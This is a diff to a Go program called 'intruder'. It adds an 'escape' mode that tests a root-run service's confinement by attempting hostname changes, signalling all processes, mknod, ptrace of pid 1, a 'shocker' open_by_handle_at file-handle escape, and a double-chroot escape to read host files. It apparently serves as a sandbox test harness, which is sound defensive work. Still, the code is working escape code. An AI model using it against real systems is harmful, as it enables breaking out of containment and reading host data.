@@ -9,13 +9,23 @@
 //	                    (TIOCSTI), leave a process in a session of its own
 //	                    that keeps reading fd 0 into /stolen, and print the
 //	                    environment
+//	intruder escape HOSTPATH HANDLE NAME
+//	                    as a service running as root in its root: report the
+//	                    host name it sees, then try to rename the host, signal
+//	                    every process (kill(-1, 0)), make a block device,
+//	                    ptrace pid 1, read NAME below the directory that
+//	                    HANDLE (TYPE:HEX, from name_to_handle_at) names with
+//	                    open_by_handle_at ("shocker"), and leave the root by a
+//	                    second chroot to read HOSTPATH
 package main
 
 import (
+	"encoding/hex"
 	"fmt"
 	"os"
 	"os/exec"
 	"strconv"
+	"strings"
 	"syscall"
 	"time"
 	"unsafe"
@@ -33,6 +43,12 @@ func main() {
 		terminal()
 	case "linger":
 		linger()
+	case "escape":
+		if len(os.Args) != 5 {
+			fmt.Fprintln(os.Stderr, "usage: intruder escape HOSTPATH HANDLE NAME")
+			os.Exit(2)
+		}
+		escape(os.Args[2], os.Args[3], os.Args[4])
 	default:
 		fmt.Fprintln(os.Stderr, "intruder: unknown mode", os.Args[1])
 		os.Exit(2)
@@ -97,6 +113,71 @@ func linger() {
 		}
 	}
 	time.Sleep(time.Hour)
+}
+
+func escape(hostPath, handle, name string) {
+	host, _ := os.Hostname()
+	fmt.Printf("hostname=%s\n", host)
+	fmt.Printf("sethostname=%s\n", result(unix.Sethostname([]byte("intruded"))))
+	fmt.Printf("kill=%s\n", result(unix.Kill(-1, 0)))
+	err := unix.Mknod("/blockdev", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0)))
+	if err == nil {
+		os.Remove("/blockdev")
+	}
+	fmt.Printf("mknod=%s\n", result(err))
+	err = unix.PtraceAttach(1)
+	if err == nil {
+		unix.PtraceDetach(1)
+	}
+	fmt.Printf("ptrace=%s\n", result(err))
+	fmt.Printf("shocker=%s\n", shocker(handle, name))
+	fmt.Printf("chroot=%s\n", chrootEscape(hostPath))
+}
+
+// shocker opens the directory a file handle names, from anywhere on its
+// file system, and reads name below it.
+func shocker(handle, name string) string {
+	typ, hexBytes, _ := strings.Cut(handle, ":")
+	t, err1 := strconv.Atoi(typ)
+	b, err2 := hex.DecodeString(hexBytes)
+	if err1 != nil || err2 != nil {
+		return "bad handle"
+	}
+	mount, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
+	if err != nil {
+		return result(err)
+	}
+	dir, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(int32(t), b), unix.O_RDONLY|unix.O_DIRECTORY)
+	if err != nil {
+		return result(err)
+	}
+	return readAt(dir, name)
+}
+
+// chrootEscape is the classic: chroot into a subdirectory, so that the
+// working directory is outside the root, climb, and chroot there.
+func chrootEscape(hostPath string) string {
+	os.Mkdir("/escape", 0o700)
+	if err := unix.Chroot("/escape"); err != nil {
+		return result(err)
+	}
+	for i := 0; i < 64; i++ {
+		unix.Chdir("..")
+	}
+	if err := unix.Chroot("."); err != nil {
+		return result(err)
+	}
+	return readAt(unix.AT_FDCWD, hostPath)
+}
+
+func readAt(dir int, name string) string {
+	fd, err := unix.Openat(dir, name, unix.O_RDONLY, 0)
+	if err != nil {
+		return result(err)
+	}
+	b := make([]byte, 256)
+	n, _ := unix.Read(fd, b)
+	return "read:" + strings.TrimSpace(string(b[:n]))
 }
 
 func result(err error) string {
